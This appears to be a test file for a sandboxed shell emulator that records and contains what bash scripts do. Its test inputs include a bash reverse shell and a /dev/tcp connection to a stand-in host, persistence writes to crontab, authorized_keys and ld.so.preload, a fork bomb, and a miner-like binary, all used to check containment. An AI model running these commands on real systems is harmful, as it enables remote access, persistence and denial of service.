import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { View } from './files/view.ts';
import { type RunOptions, type RunResult, run } from './run.ts';
import { defaultLimits } from './shell/process/budget.ts';
import { programs } from './shell/testing/programs.ts';
import { type Kept, kept, testWorld } from './shell/testing/real.ts';
import { watchTurns } from './shell/testing/turns.ts';
import type { World } from './world.ts';

interface Ran extends RunResult {
  readonly stdout: string;
  readonly stderr: string;
}

async function ran(
  argv: readonly string[],
  more: Partial<RunOptions> & { world?: World } = {},
): Promise<Ran> {
  const { world = testWorld(), ...options } = more;
  const [stdout, stderr]: [Kept, Kept] = [kept(), kept()];
  const result = await run(world, {
    argv,
    stdout,
    stderr,
    pace: 'skip',
    signal: new AbortController().signal,
    programs,
    onFault: (error) => assert.fail(String(error)),
    ...options,
  });
  return { ...result, stdout: stdout.text(), stderr: stderr.text() };
}

const bash = (script: string, more?: Parameters<typeof ran>[1]): Promise<Ran> =>
  ran(['bash', '-c', script], more);

const filesOf = ({ notes }: RunResult): string[] =>
  notes.flatMap((note) => (note.kind === 'file' ? [note.path] : []));

/** The first bytes of a program for a processor: 62 is x86-64, 40 is ARM. */
function elf(machine: number): Buffer {
  const bytes = Buffer.alloc(200, 0x90);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  bytes.writeUInt16LE(machine, 18);
  return bytes;
}

describe('a run', () => {
  it('notes each command once, with its words as they were expanded', async () => {
    const { commands } = await bash(
      'x=world; for i in 1 1 2; do echo "hello $x" $i; done; (cat < /dev/null)',
    );
    assert.deepEqual(commands.slice(1), [
      ['echo', 'hello world', '1'],
      ['echo', 'hello world', '2'],
      ['cat'],
    ]);
  });

  it('notes what is left in files at its end, by the path that leads there', async () => {
    const script = `
      mkdir -p /root/.ssh
      echo '* * * * * root true' >> /etc/crontab
      echo 'ssh-rsa AAAA' > /root/.ssh/authorized_keys
      echo /tmp/x.so > /etc/ld.so.preload
      echo gone > /tmp/gone; exec 3> /tmp/kept; echo a >&3`;
    const result = await bash(`${script}\ncat /tmp/gone; > /tmp/gone`);
    assert.deepEqual(filesOf(result).sort(), [
      '/etc/crontab',
      '/etc/ld.so.preload',
      '/root/.ssh/authorized_keys',
      '/tmp/gone',
      '/tmp/kept',
    ]);
  });

  it('notes files behind a chroot where they are outside of it', async () => {
    const result = await bash("chroot /usr sh -c 'cd share; echo a > left; pwd'");
    assert.equal(result.stdout, '/share\n');
    assert.deepEqual(filesOf(result), ['/usr/share/left']);
  });

  it('ends what does not listen, and survives an output that is gone', async () => {
    const stuck = await bash('cat', {
      signal: AbortSignal.timeout(50),
      programs: () => () => new Promise(() => {}),
    });
    assert.equal(stuck.exitCode, 129);
    const gone = { isTerminal: false, write: () => Promise.reject(new Error('gone')) };
    assert.equal((await bash('echo a; echo b', { stdout: gone })).exitCode, 129);
  });

  it('lets a program not wait for what it starts, writes and reads', async () => {
    const careless: RunOptions['programs'] = () => (run) => {
      for (const promise of [run.stdout.write('x'), run.exec(['cat']), run.sleep(1e6), run.stdin.read()])
        void promise;
      return 3;
    };
    assert.equal(
      (await bash('cat', { programs: careless, limits: { ...defaultLimits, work: 500 } })).exitCode,
      137,
    );
  });

  it('tells connections of /dev/tcp, which are made nowhere and say nothing', async () => {
    const script = 'exec 3<>/dev/tcp/192.0.2.7/4444; echo hello >&3; cat <&3; echo "closed $?"';
    const { notes, stdout } = await bash(script);
    assert.equal(stdout, 'closed 0\n');
    assert.deepEqual(
      notes.filter(({ kind }) => kind === 'connect'),
      [{ kind: 'connect', tool: 'bash', host: '192.0.2.7', port: 4444 }],
    );
  });

  it('lets a reverse shell end as if its peer had hung up', async () => {
    const { exitCode, notes, stdout } = await bash('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1; echo after');
    assert.equal(exitCode, 0);
    assert.equal(stdout, 'after\n');
    assert.ok(notes.some(({ kind }) => kind === 'connect'));
  });

  it('says by a failure that there is no such program, or that it may not be run', async () => {
    assert.deepEqual(await ran(['nosuch']), {
      exitCode: 127,
      notes: [],
      commands: [],
      failure: 'ENOENT',
      stdout: '',
      stderr: '',
    });
    assert.equal((await ran(['/etc/passwd'])).failure, 'EACCES');
    assert.equal((await ran(['/etc'])).exitCode, 126);
  });

  it('reads a script from its input, and lets a command of it read on', async () => {
    const chunks = ['read x\nval', 'ue\necho "got $x"\ncat\nrest\n'].map((text) => Buffer.from(text));
    const stdin = { isTerminal: false, read: async () => chunks.shift() };
    assert.equal((await ran(['bash'], { stdin })).stdout, 'got value\nrest\n');
  });

  it('starts programs of nobody knows what, which say nothing and stay', async () => {
    const world = testWorld();
    new View(world.files).write('/tmp/bot', elf(62), { mode: 0o755 });
    const { exitCode, stderr } = await bash('cd /tmp; ./bot -o pool.example.invalid', { world });
    assert.deepEqual([exitCode, stderr], [0, '']);
    assert.deepEqual(world.processes.at(-1)!.args, ['./bot', '-o', 'pool.example.invalid']);
    assert.equal(world.processes.at(-1)!.ppid, 1);
    const count = world.processes.length;
    assert.equal((await bash('/tmp/bot --help && /tmp/bot --version', { world })).exitCode, 0);
    assert.equal(world.processes.length, count, 'who is asked about itself does not stay');
  });

  it('refuses programs of another processor, and files that are not executable, in the words of the shell', async () => {
    const world = testWorld();
    new View(world.files).write('/tmp/arm', elf(40), { mode: 0o755 });
    new View(world.files).write('/tmp/plain', elf(62));
    const { stdout, stderr } = await bash('/tmp/arm; echo $?; /tmp/plain; echo $?', { world });
    assert.equal(stdout, '126\n126\n');
    assert.equal(
      stderr,
      'bash: line 1: /tmp/arm: cannot execute binary file: Exec format error\nbash: line 1: /tmp/plain: Permission denied\n',
    );
  });

  it('keeps bytes that are no text', async () => {
    const world = testWorld();
    await bash(
      'echo -ne \'\\x7fELF\\x02\\xff\\x00\\xb0\' > /tmp/x; x=$(cat /tmp/x); printf %s "$x" > /tmp/y',
      { world },
    );
    const read = (path: string): string => Buffer.from(new View(world.files).read(path)).toString('hex');
    assert.equal(read('/tmp/x'), '7f454c4602ff00b0');
    assert.equal(read('/tmp/y'), '7f454c4602ffb0');
  });

  it('lists what became another program in its place', async () => {
    const world = testWorld();
    let listed: readonly number[] = [];
    new View(world.files).write('/look', Buffer.from('look'), { mode: 0o755 });
    await bash("sh -c 'exec sleep 50' & sleep 1; /look", {
      world,
      programs(at, path) {
        if (path !== '/look') return programs(at, path);
        return async () => {
          listed = world.processes.map((one) => one.pid);
          return 0;
        };
      },
    });
    assert.ok(listed.length > 0);
    assert.equal(new Set(listed).size, listed.length, `${listed}`);
  });

  it('lists its processes while they run, and no longer', async () => {
    const world = testWorld();
    const before = world.processes.length;
    const seen: (readonly string[])[] = [];
    await bash('cat /etc/hostname; exec env', {
      world,
      programs: (at, path) => {
        const program = programs(at, path);
        return (run) => {
          seen.push(...world.processes.slice(before).map(({ args }) => args));
          return program!(run);
        };
      },
    });
    assert.deepEqual(seen.slice(0, 2), [
      ['bash', '-c', 'cat /etc/hostname; exec env'],
      ['cat', '/etc/hostname'],
    ]);
    assert.equal(world.processes.length, before);
  });

  it('waits for what was left in the background, without the time that it would take', async () => {
    const begun = performance.now();
    const { stdout, stderr } = await bash('(sleep 3600; echo late) & nohup sleep 50 & echo early', {
      pace: 'real',
    });
    assert.equal(stdout, 'early\nlate\n');
    assert.equal(stderr, '');
    assert.ok(performance.now() - begun < 3000);
  });

  it('moves the clock of the world where nobody watches', async () => {
    const world = testWorld();
    const { stdout, stderr } = await bash('time sleep 100; echo $SECONDS', { world });
    assert.equal(stdout, '100\n');
    assert.match(stderr, /^\nreal\t1m40\.\d{3}s\nuser\t0m0\.004s\nsys\t0m0\.002s\n$/);
    assert.equal(world.ahead, 100_000);
  });

  it('really sleeps where somebody watches', async () => {
    const begun = performance.now();
    await bash('sleep 0.2', { pace: 'real' });
    assert.ok(performance.now() - begun >= 190);
  });

  it('kills a job by its number or pid', async () => {
    const { stdout } = await bash(
      'sleep 9999 & kill $!; wait $!; echo $?; sleep 9999 & kill -9 %1; wait $!; echo $?',
      {
        pace: 'real',
      },
    );
    assert.equal(stdout, '143\n137\n');
  });

  it('ends with its signal, in the middle of whatever it does', async () => {
    for (const script of ['sleep 100', 'while :; do sleep 0.01; done', 'cat', 'yes | cat > /dev/null']) {
      const abort = new AbortController();
      setTimeout(() => abort.abort(), 50);
      const stdin = { isTerminal: false, read: () => new Promise<undefined>(() => {}) };
      const { exitCode } = await bash(script, { pace: 'real', signal: abort.signal, stdin });
      assert.ok(exitCode >= 128, script);
    }
  });
});

describe('what one run may use up', () => {
  it('ends loops that sleep, when nobody watches, and goes on behind them', async () => {
    const { stdout, exitCode } = await bash('while true; do sleep 60; echo tick; done; echo out');
    assert.equal(exitCode, 0);
    assert.equal(stdout, `${'tick\n'.repeat(200)}out\n`);
  });

  it('ends whatever computes, writes or grows without end', async () => {
    const limits = { ...defaultLimits, work: 200_000, commands: 2000 };
    const scripts = [
      'while :; do :; done',
      'for ((;;)); do ((i++)); done',
      'yes',
      'x=a; while :; do x=$x$x; done',
      'x=$(yes)',
      'f() { f; }; f',
      'echo {1..9}{1..9}{1..9}{1..9}{1..9}{1..9}',
      'while :; do read x; done < /dev/zero',
    ];
    for (const script of scripts) {
      const { exitCode, stderr } = await bash(script, { limits });
      assert.ok(exitCode === 137 || exitCode === 139, `${script}: ${exitCode}`);
      assert.equal(stderr, '', script);
    }
  });

  it('ends a fork bomb with a few words of the shell', async () => {
    const bomb = await bash(':(){ :|:& };:');
    assert.match(
      bomb.stderr,
      /^(?:environment: line 1: fork: retry: Resource temporarily unavailable\n){1,8}$/,
    );
    const { stderr } = await ran(['dash', '-c', 'f() { f | f & }; f']);
    assert.match(stderr, /^(?:dash: 1: Cannot fork\n){1,8}$/);
  });

  it('ends scripts that start themselves', async () => {
    const world = testWorld();
    const { stdout } = await bash('cd /tmp; echo ./x > x; chmod +x x; ./x; echo $?', { world });
    assert.equal(stdout, '254\n');
  });

  it('lets others run: twenty busy shells hold up nobody', async () => {
    const turns = watchTurns();
    const world = testWorld();
    const limits = { ...defaultLimits, work: 10_000 };
    await Promise.all(
      Array.from({ length: 20 }, () => bash('while :; do x=$((x+1)); done', { world, limits })),
    );
    const longest = turns.stop();
    assert.ok(longest < 150, `${longest} ms`);
  });
});
